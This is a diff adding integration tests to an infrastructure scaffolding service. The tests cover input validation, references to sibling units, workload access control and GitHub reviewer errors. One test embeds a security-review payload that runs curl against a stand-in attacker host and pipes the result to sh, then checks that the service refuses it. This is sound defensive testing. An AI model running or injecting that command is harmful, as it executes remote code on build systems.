@@ -23,6 +23,7 @@ import { createPrismaScaffoldStore } from "./adapters/prisma-scaffold-store";
 import { createScaffold } from "./create-scaffold";
 import { findModuleVersionId } from "./find-module-version-id";
 import { getScaffold } from "./get-scaffold";
+import { listScaffolds } from "./list-scaffolds";
 import { getScaffoldFormContext } from "./get-scaffold-form-context";
 import { handlePullRequestWebhook } from "./handle-pull-request-webhook";
 import type { PullRequestPublisher, ScaffoldDeps } from "./ports";
@@ -46,6 +47,7 @@ let realPublisher: PullRequestPublisher;
 let versions: Record<string, string>;
 const handled: Array<{ status: number; outcome: string | null }> = [];
 
+const dave: Viewer = { id: "0d0d0d00-0000-4000-8000-000000000004", username: "dave", name: "Dave", email: null, role: "builder", workloads: [] };
 const alice: Viewer = { id: "0b0a11ce-0000-4000-8000-000000000001", username: "alice", name: "Alice Builder", email: null, role: "builder", workloads: [{ slug: "payments", name: "Payments", role: "builder" }] };
 
 async function control(route: string, init: { method?: string; body?: unknown } = {}): Promise<unknown> {
@@ -167,6 +169,48 @@ describe("scaffold into payments-infra", () => {
     await expect(previewScaffold(deps, alice, { ...queueInput(`x-${run}`), workload: "ledger" })).rejects.toMatchObject({ code: "FORBIDDEN" });
   });
 
+  it("refuses the security review's attack payload, as a plain value and as a reference, and opens no PR", async () => {
+    // The exact payload of issue 8: a run_cmd posted as an ordinary input.
+    const attack = { __expr: 'run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")' };
+    const pullsBefore = ((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length;
+    const plain = { ...queueInput(`attack-${run}`, { name: attack }), idempotencyKey: `key-attack-${run}`, mode: "create" as const };
+    await expect(createScaffold(deps, alice, plain)).rejects.toMatchObject({
+      code: "INVALID_INPUT",
+      fieldErrors: [{ path: "name", message: expect.stringMatching(/^This field takes a plain value/) }],
+    });
+    const asReference = { ...plain, references: ["name"], idempotencyKey: `key-attack-ref-${run}` };
+    await expect(createScaffold(deps, alice, asReference)).rejects.toMatchObject({
+      code: "INVALID_INPUT",
+      fieldErrors: [{ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) }],
+    });
+    const preview = await previewScaffold(deps, alice, asReference);
+    expect(preview).toMatchObject({ ok: false, fieldErrors: [{ path: "name" }] });
+    expect(await db.scaffoldRequest.count({ where: { idempotencyKey: { in: [plain.idempotencyKey, asReference.idempotencyKey] } } })).toBe(0);
+    expect(((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length).toBe(pullsBefore);
+    await expect(exec("git", ["-C", path.join(stateDir, "repos", ORG, "payments-infra.git"), "grep", "-q", "run_cmd", "--all"]).catch(() => "absent")).resolves.toBe("absent");
+  });
+
+  it("writes an allowed reference where the builder switched the field, and refuses one to a unit that is not there", async () => {
+    const input = queueInput(`ref-${run}`, { name: { __expr: "dependency.vpc /* sibling */ .outputs.vpc_id" } });
+    const preview = await previewScaffold(deps, alice, { ...input, references: ["name"] });
+    if (!preview.ok) throw new Error(JSON.stringify(preview.fieldErrors));
+    expect(preview.files[0]!.content).toContain('dependency "vpc" {\n  config_path = "../vpc"\n}');
+    expect(preview.files[0]!.content).toMatch(/name +?= dependency\.vpc\.outputs\.vpc_id\n/);
+    const missing = await previewScaffold(deps, alice, { ...queueInput(`ref2-${run}`, { name: { __expr: "dependency.network.outputs.id" } }), references: ["name"] });
+    expect(missing).toMatchObject({ ok: false, fieldErrors: [{ path: "name", message: expect.stringMatching(/^There is no unit "network" in dev\/eu-west-1\/ to read outputs from \(units there: .*vpc/) }] });
+  });
+
+  it("lets dave, in no workload, see the workload and its units but not its requests' inputs and files (issue 8)", async () => {
+    const outcome = await createScaffold(deps, alice, { ...queueInput(`private-${run}`, { name: `payments-private-${run}` }), idempotencyKey: `key-private-${run}`, mode: "create" });
+    await expect(getScaffold(deps, dave, { id: outcome.id })).rejects.toMatchObject({ code: "FORBIDDEN" });
+    const listed = await listScaffolds(deps, dave, { workload: "payments", pageSize: 100 });
+    expect(listed.scaffolds.find((s) => s.id === outcome.id)).toMatchObject({ detailsVisible: false, inputs: {}, files: [], prNumber: outcome.prNumber });
+    expect(JSON.stringify(listed)).not.toContain(`payments-private-${run}`);
+    const overview = await getWorkloadDetail(deps.workloads, dave, { slug: "payments" });
+    expect(overview).toMatchObject({ canEdit: false, yourRole: null });
+    expect(overview.units.length).toBeGreaterThan(0);
+  });
+
   it("detects a collision with an existing unit and updates it only when asked", async () => {
     const input = { ...queueInput("orders-queue"), moduleVersionId: versions["sqs-queue@1.2.0"]!, values: { name: "payments-orders-dev", visibility_timeout_seconds: 120, max_receive_count: 3 } };
     const preview = await previewScaffold(deps, alice, input);
@@ -236,6 +280,20 @@ describe("scaffold into payments-infra", () => {
     expect(await db.scaffoldRequest.count({ where: { idempotencyKey: input.idempotencyKey } })).toBe(1);
     const record = (await deps.store.findScaffold(a.id))!;
     expect(await pullsFor(record.branch)).toHaveLength(1);
+  });
+
+  it("opens the PR and records a warning when GitHub refuses the team reviewers (422)", async () => {
+    // Without a grant on the repo, GitHub answers 422 "Reviews may only be requested from collaborators".
+    await control(`/orgs/${ORG}/teams/payments-team`, { method: "PUT", body: { repos: {} } });
+    try {
+      const outcome = await createScaffold(deps, alice, { ...queueInput(`noreview-${run}`), idempotencyKey: `key-noreview-${run}`, mode: "create" });
+      expect(outcome).toMatchObject({ state: "pr_open", failedStep: null, failureMessage: null });
+      const view = await getScaffold(deps, alice, { id: outcome.id });
+      expect(view.reviewerWarning).toMatch(/GitHub refused to request reviewers in acme-platform\/payments-infra/);
+      expect(await pullsFor(view.branch)).toHaveLength(1);
+    } finally {
+      await control(`/orgs/${ORG}/teams/payments-team`, { method: "PUT", body: { repos: { "payments-infra": "push" } } });
+    }
   });
 
   it("fails with an actionable message when the App may not write to the repo", async () => {
